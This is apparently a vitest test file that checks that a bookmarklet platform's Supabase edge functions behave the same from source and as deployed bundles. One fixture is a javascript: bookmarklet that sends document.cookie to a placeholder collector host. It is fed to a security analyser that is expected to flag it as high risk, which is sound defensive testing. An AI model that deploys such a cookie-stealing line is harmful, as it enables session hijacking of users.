import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { fileURLToPath } from "node:url";
import { type LoopbackServer, listenOnLoopback } from "@scriptorium/loopback-server/listen-on-loopback";
import { type DenoProcess, startDeno } from "@scriptorium/supabase/local/functions/deno-process";
import { FUNCTIONS_WITH_MODEL } from "@scriptorium/supabase/local/functions/functions-with-model";
import { buildEdgeFunctions } from "@scriptorium/workspace/build/build-edge-functions";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

const folder = mkdtempSync(join(tmpdir(), "scriptorium-edge-"));
const sourceOf = (name: string) =>
	fileURLToPath(new URL(`../../../supabase/functions/${name}/index.ts`, import.meta.url));
const bundleOf = (name: string) => join(folder, name, "index.js");
const id = "3f0c2b9e-0000-4000-8000-000000000000";
const leak = "javascript:void fetch('https://collector.example/?c='+document.cookie)";

/** All endpoints of a project that the functions use. The database is tested in supabase/tests. */
const PROJECT: Readonly<Record<string, (body: string) => unknown>> = {
	"/rest/v1/bookmarklets": () => [{ id }],
	"/rest/v1/versions": () => ({ id }),
	"/rest/v1/rpc/begin_analysis": (body) => (body.includes(id) ? [{ code: leak, title: "Sample", report: null }] : []),
	"/rest/v1/rpc/record_analysis": (body) => JSON.parse(body).p_summary,
	"/rest/v1/rpc/record_code_features": () => null,
	"/rest/v1/rpc/claim_analysis_job": () => [],
	"/rest/v1/rpc/redeem_desktop_code": () => [],
	"/rest/v1/rpc/analysis_queue_state": () => [{ waiting: 0, outdated: 0 }],
};

function startProject(): Promise<LoopbackServer> {
	const server = createServer((request, response) => {
		const answer = PROJECT[new URL(request.url ?? "/", "http://project").pathname];
		void text(request).then((body) => {
			response.writeHead(answer ? 200 : 404, { "content-type": "application/json" });
			response.end(JSON.stringify(answer ? answer(body) : { message: "unknown" }));
		});
	});
	return listenOnLoopback(server);
}

interface Question {
	readonly method: string;
	readonly headers?: Record<string, string>;
	readonly body?: string;
}
const post = (body: unknown, headers: Record<string, string> = {}): Question => ({
	method: "POST",
	headers,
	body: JSON.stringify(body),
});

const questions: Readonly<Record<string, readonly Question[]>> = {
	"health-check": [{ method: "GET" }, { method: "OPTIONS" }, { method: "DELETE" }],
	"analyze-security": [
		post({ code: leak, title: "Sample" }),
		post({ version_id: id }),
		post({ drain: true }, { apikey: "sb_secret_test" }),
		post({ drain: true }),
		post({ code: "no" }),
		{ method: "POST", body: "{" },
		{ method: "GET" },
		{ method: "OPTIONS" },
	],
	"desktop-session": [
		post({
			code: "c".repeat(43),
			code_verifier: "v".repeat(43),
			redirect_uri: "http://127.0.0.1:9/callback",
			device: { device_id: "desk", name: "Workshop", platform: "linux" },
		}),
		post({ code: "short" }),
		{ method: "GET" },
	],
	"generate-bookmarklet": [{ method: "GET" }, post({ prompt: "dark mode", isUserscript: true }), post({ prompt: " " })],
	"generate-script": [{ method: "GET" }, post({ prompt: "dark mode" })],
	"generate-tags": [{ method: "GET" }, post({ title: "Dark", description: "", code: "" })],
	"test-bookmarklet": [
		{ method: "GET" },
		post({ code: "1", testUrl: "https://a.example.com/" }),
		post({ code: "", testUrl: "https://a.example.com/" }),
		post({ code: "1", testUrl: "http://127.1/" }),
	],
	"analyze-page": [{ method: "GET" }, post({ url: "https://a.example.com/", pageContent: "<p>" })],
	"ai-script-assistant": [
		{ method: "GET" },
		{ method: "OPTIONS" },
		post({ message: "dark mode" }),
		post({ message: " " }),
	],
};
const names = Object.keys(questions);

describe("the edge functions, as sources and as the bundles that are deployed", () => {
	let project: LoopbackServer;
	const running: DenoProcess[] = [];

	beforeAll(async () => {
		project = await startProject();
		expect((await buildEdgeFunctions(folder)).sort()).toEqual(names.toSorted());
		const env = {
			SUPABASE_URL: project.origin,
			SUPABASE_ANON_KEY: "sb_publishable_test",
			SUPABASE_SERVICE_ROLE_KEY: "sb_secret_test",
		};
		for (const name of names) {
			// A function that asks a model without being listed would not start without this permission.
			const options = { env, mayReadHostname: FUNCTIONS_WITH_MODEL.has(name), cacheDir: join(folder, "deno") };
			for (const entry of [sourceOf(name), bundleOf(name)]) {
				running.push(await startDeno({ ...options, entry, log: () => undefined }));
			}
		}
	}, 120_000);
	afterAll(async () => {
		for (const { child } of running) child.kill("SIGKILL");
		await project.close();
		rmSync(folder, { recursive: true, force: true });
	});

	const ask = async (process: DenoProcess | undefined, question: Question) => {
		const headers = { ...question.headers, "x-scriptorium-gateway-key": process?.key ?? "" };
		const answer = await fetch(`http://127.0.0.1:${process?.port}/`, { ...question, headers });
		return { status: answer.status, body: await answer.text() };
	};

	it.each(names.map((name, index) => [name, index] as const))("give equal responses: %s", async (name, index) => {
		for (const question of questions[name] ?? []) {
			const [fromSource, fromBundle] = [running[2 * index], running[2 * index + 1]];
			const answered = await ask(fromSource, question);
			expect(await ask(fromBundle, question), JSON.stringify(question)).toEqual(answered);
			expect(answered.status, answered.body).toBeLessThan(500);
		}
	});

	it("perform their tasks", async () => {
		const healthy = { status: 200, body: JSON.stringify({ status: "ok", bookmarklets: "readable" }) };
		expect(await ask(running[1], { method: "GET" })).toEqual(healthy);
		const [onCode, onVersion] = await Promise.all([
			ask(running[3], post({ code: leak, title: "Sample" })),
			ask(running[3], post({ version_id: id })),
		]);
		expect(onVersion).toEqual(onCode);
		expect(JSON.parse(onCode.body)).toMatchObject({ risk_level: "red", vulnerabilities: [{ line: 1 }] });
	});

	it.each(names)("are one file without imports: %s", (name) => {
		expect(readFileSync(bundleOf(name), "utf8")).not.toMatch(/^\s*(import\s|export .* from )/m);
	});
});
